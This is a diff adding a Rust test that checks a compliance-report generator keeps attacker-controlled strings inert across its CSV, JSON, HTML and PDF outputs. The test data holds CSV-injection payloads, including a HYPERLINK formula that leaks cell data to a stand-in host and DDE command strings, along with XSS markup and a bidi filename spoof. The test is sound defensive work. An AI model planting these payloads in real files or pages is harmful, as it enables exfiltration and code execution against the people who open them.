@@ -393,3 +393,93 @@ fn report_documents_written_directly_match_the_round_trip() {
         }
     }
 }
+
+/// Attacker-controlled text (a resource id, a rule name, a control title from a tampered
+/// catalogue) must stay text in every output: the OWASP CSV-injection triggers, markup, a bidi
+/// override, terminal control characters, and a 100 KB name.
+#[test]
+fn hostile_strings_stay_text_in_every_output() {
+    let hostile: Vec<String> = vec![
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")".into(),
+        "+cmd|' /C calc'!A0".into(),
+        "-2+3+cmd|' /C calc'!A0".into(),
+        "@SUM(1+1)*cmd|' /C calc'!A0".into(),
+        "\t=1+1".into(),
+        "\r=1+1".into(),
+        "<script>alert(1)</script>".into(),
+        "\"><img src=x onerror=alert(1)>".into(),
+        "bucket-\u{202E}fdp.exe".into(),
+        "bell\u{7}esc\u{1b}[31mred\u{0}nul".into(),
+        "A".repeat(100_000),
+    ];
+    let mut snapshot = sample::synthetic(12, 120);
+    for (i, item) in snapshot.evidence.iter_mut().enumerate() {
+        if let Some(e) = item.evaluation.as_mut() {
+            let h = &hostile[i % hostile.len()];
+            e.subject.resource_id = h.clone();
+            e.subject.rule_id = hostile[(i + 3) % hostile.len()].clone();
+        }
+    }
+    for (i, c) in snapshot.controls.iter_mut().enumerate() {
+        c.title = hostile[i % hostile.len()].clone();
+    }
+    let outputs = render_all(&snapshot).expect("hostile strings still render");
+    let bytes = |name: &str| {
+        outputs
+            .iter()
+            .find(|o| o.name == name)
+            .unwrap_or_else(|| panic!("no {name}"))
+            .bytes
+            .clone()
+    };
+
+    // CSV: no cell a spreadsheet would evaluate; the neutralised cell is the original after `'`.
+    let csv = bytes("report.csv");
+    let mut cells = 0;
+    for record in csv::Reader::from_reader(csv.as_slice()).records() {
+        for cell in record.expect("a CSV record").iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "active CSV cell {:?}",
+                &cell[..cell.len().min(40)]
+            );
+            if let Some(original) = cell.strip_prefix('\'') {
+                assert!(hostile.iter().any(|h| h == original), "{cell:?}");
+                cells += 1;
+            }
+        }
+    }
+    assert!(cells > 0, "the corpus reached the CSV");
+
+    // JSON outputs keep the exact strings (the JSON report is what verify compares).
+    let report: serde_json::Value = serde_json::from_slice(&bytes("report.json")).unwrap();
+    let text = report.to_string();
+    let json_of = |s: &str| serde_json::to_string(s).unwrap();
+    for h in &hostile {
+        assert!(
+            text.contains(json_of(h).trim_matches('"')),
+            "report.json lost {:?}",
+            &h[..h.len().min(40)]
+        );
+    }
+    serde_json::from_slice::<serde_json::Value>(&bytes(OSCAL_OUTPUT)).expect("OSCAL is JSON");
+    for line in bytes(OCSF_OUTPUT)
+        .split(|b| *b == b'\n')
+        .filter(|l| !l.is_empty())
+    {
+        serde_json::from_slice::<serde_json::Value>(line).expect("each OCSF line is JSON");
+    }
+
+    // HTML: markup from evidence is escaped; bidi overrides are isolated per cell by the CSS.
+    let html = String::from_utf8(bytes("report.html")).unwrap();
+    assert!(!html.contains("<script"), "a script element in the HTML");
+    assert!(!html.contains("<img"), "an img element in the HTML");
+    assert!(html.contains("&lt;script&gt;alert(1)&lt;&#x2f;script&gt;"));
+    assert!(
+        html.contains("unicode-bidi: isolate"),
+        "cells isolate bidi text"
+    );
+
+    let pdf = bytes("report.pdf");
+    assert!(pdf.starts_with(b"%PDF-"), "the PDF renders");
+}
